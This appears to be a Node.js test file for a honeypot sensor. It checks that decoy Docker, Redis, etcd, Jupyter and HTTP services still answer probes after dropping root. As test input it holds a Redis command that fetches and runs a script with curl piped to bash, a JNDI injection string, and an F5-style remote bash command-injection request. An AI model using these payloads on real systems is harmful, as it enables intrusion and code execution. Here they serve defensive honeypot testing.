/**
 * A sensor that root starts where nobody else may read, as below /root: its decoys give up their rights before there are
 * visitors, so whatever they need of the disk they have read by then.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { rmSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { makeCheckout } from '../fixtures/checkout.ts';

const { folder, env } = makeCheckout();
after(() => rmSync(folder, { recursive: true, force: true }));

/** Of those that take text; everything that makes one of them look something up. */
const requests: Readonly<Record<string, readonly string[]>> = {
  docker: [get('/version'), get('/containers/json')],
  redis: ['SET x "curl http://192.0.2.7/a.sh | bash"\r\nEVAL "return 1" 0\r\nSAVE\r\nQUIT\r\n'],
  etcd: [get('/version'), get('/v2/keys/?recursive=true'), get('/metrics')],
  jupyter: ['/tree', '/terminals/1', '/favicon.ico', '/edit/a.py', '/notebooks/a.ipynb', '/nothing'].map(get),
  http: [get('/'), get('/?x=${jndi:ldap://192.0.2.7/a}')],
};

function get(target: string): string {
  return `GET ${target} HTTP/1.1\r\nHost: 203.0.113.5\r\nConnection: close\r\n\r\n`;
}

/** Whose command is run, by code that is loaded then. */
const exploit =
  'POST /mgmt/tm/util/bash HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Length: 39\r\n\r\n{"command":"run","utilCmdArgs":"-c id"}';

async function ask(port: number, request: string): Promise<string> {
  const socket = connect(port, '127.0.0.1');
  let answer = '';
  socket.setEncoding('latin1').on('data', (text: string) => {
    answer += text;
  });
  socket.on('error', () => {});
  socket.end(request);
  await once(socket, 'close');
  return answer;
}

test('decoys read nothing more once they are nobody', {
  skip: process.getuid?.() !== 0 && 'not root',
}, async () => {
  const names = Object.keys(requests);
  const places = names.flatMap((name) => ['--decoy', `${name}=127.0.0.1:0`]);
  const sensor = spawn(
    join(folder, 'waterguard'),
    ['honeypot', ...places, '--persona', 'test', '--events', join(folder, 'events.ndjson')],
    { cwd: folder, env: { ...env, WATERGUARD_DEBUG: '1' }, stdio: ['ignore', 'ignore', 'pipe'] },
  );
  const ended = once(sensor, 'exit');
  try {
    let said = '';
    sensor.stderr.setEncoding('utf8').on('data', (text: string) => {
      said += text;
    });
    const portsOf = () =>
      new Map(
        [...said.matchAll(/^listening on (\S+)=\S+:(\d+)$/gm)].map(([, name, port]) => [name!, Number(port)]),
      );
    while (portsOf().size < names.length && sensor.exitCode === null)
      await new Promise((resolve) => setTimeout(resolve, 50));
    const ports = portsOf();
    for (const [name, texts] of Object.entries(requests))
      for (const text of texts)
        assert.notEqual(await ask(ports.get(name)!, text), '', `${name}: ${text}\n${said}`);
    assert.match(await ask(ports.get('http')!, exploit), /uid=0\(root\)/);
    assert.doesNotMatch(said, /EACCES|EPERM|Error/);
  } finally {
    sensor.kill();
    await ended;
  }
});
